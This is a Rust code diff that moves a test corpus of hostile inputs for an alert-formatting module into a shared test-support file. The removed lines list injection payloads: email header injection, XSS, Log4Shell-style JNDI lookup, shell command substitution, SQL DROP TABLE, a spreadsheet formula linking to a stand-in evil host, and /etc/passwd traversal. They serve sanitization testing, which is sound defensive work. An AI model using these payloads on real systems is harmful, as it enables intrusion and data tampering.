@@ -65,26 +65,15 @@ pub(super) fn slack(text: &str) -> String {
         .replace('>', "&gt;")
 }
 
-/// What a title may try.
+/// What a title may try: the one corpus, that of the whole program's tests.
 #[cfg(test)]
-pub(super) const HOSTILE: &[&str] = &[
-    "a\r\nBcc: victim@example.com\r\n\r\nhello",
-    "a\nSubject: other",
-    "<!channel> <!here> <@U123> <http://evil.example|click>",
-    "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "\u{202e}gnp.exe",
-    "\u{1b}[31mred\u{1b}[0m\u{7}",
-    "a\u{2028}b\u{2029}c\u{85}d",
-    "{{7*7}} %s%n ${jndi:ldap://x} `id` $(id)",
-    "'; DROP TABLE alerts; --",
-    "=HYPERLINK(\"http://evil\")",
-    "../../etc/passwd\0",
-    "=?utf-8?b?QmNjOiB4QHk=?=",
-    ".\r\n.\r\n",
-    "\"},{\"level\":\"none",
-    "【値下げ】ファミコン本体 \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} e\u{301}",
-    "&lt;!channel&gt; &amp;",
-];
+#[path = "../../tests/it/support/hostile.rs"]
+#[expect(
+    dead_code,
+    unreachable_pub,
+    reason = "the corpus of all tests; this room takes the texts alone"
+)]
+pub(super) mod hostile;
 
 #[cfg(test)]
 mod tests {
@@ -93,7 +82,7 @@ mod tests {
 
     #[test]
     fn a_hostile_text_is_one_line_of_what_can_be_seen() {
-        for text in HOSTILE {
+        for text in hostile::HOSTILE {
             let line = line(text);
             assert!(
                 !line
